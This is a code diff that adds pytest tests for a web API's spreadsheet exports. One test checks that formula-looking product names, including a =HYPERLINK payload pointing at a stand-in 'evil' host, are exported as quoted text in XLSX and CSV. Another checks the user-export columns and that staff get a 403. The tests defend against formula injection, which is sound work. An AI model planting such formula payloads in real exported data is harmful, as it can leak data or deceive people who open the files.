@@ -76,3 +76,40 @@ async def test_export_job_runs_in_the_worker(api, staff: SignedIn):
 async def test_export_paths_are_not_taken_for_ids(api, admin: SignedIn, path: str):
     response = await api.get(path, headers=admin.headers)
     assert response.status_code == 200, response.text
+
+
+async def test_formula_looking_text_stays_text(api, staff: SignedIn):
+    marker = unique("inj")
+    evil = [f'=HYPERLINK("http://evil/{marker}","x")', f"+{marker}", f"@{marker}", f"-{marker}"]
+    for text in evil:
+        await make_product(api, staff, name=text, description=f"\t{marker}")
+    response = await api.get(f"/api/v1/products/export.xlsx?q={marker}", headers=staff.headers)
+    assert response.status_code == 200, response.text
+    rows = list(workbook(response.content).active.iter_rows(min_row=2))
+    assert sorted(row[2].value for row in rows) == sorted(evil)
+    for row in rows:
+        for cell in (row[2], row[3]):
+            assert cell.data_type == "s"  # a string, never a formula
+            assert cell.quotePrefix  # and it stays text when edited in Excel
+    assert all(row[4].data_type == "n" for row in rows)  # the price is still a number
+    as_csv = await api.get(f"/api/v1/products/export.csv?q={marker}", headers=staff.headers)
+    lines = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    assert sorted(line[2] for line in lines[1:]) == sorted("'" + text for text in evil)
+    assert all(line[3] == f"'\t{marker}" for line in lines[1:])
+
+
+async def test_users_export_has_roles_and_flags(api, admin: SignedIn, staff: SignedIn):
+    response = await api.get(f"/api/v1/users/export.xlsx?q={staff.username}", headers=admin.headers)
+    assert response.status_code == 200
+    sheet = workbook(response.content).active
+    header = [cell.value for cell in sheet[1]]
+    assert header == ["ID", "Username", "Email", "Phone", "Display name", "Roles", "Active",
+                      "Email verified", "Created at"]  # fmt: skip
+    [row] = list(sheet.iter_rows(min_row=2, values_only=True))
+    assert row[0] == staff.id
+    assert row[1] == staff.username
+    assert row[5] == "staff"
+    assert row[6] is True
+    assert isinstance(row[8], datetime)
+    forbidden = await api.get("/api/v1/users/export.csv", headers=staff.headers)
+    assert forbidden.status_code == 403
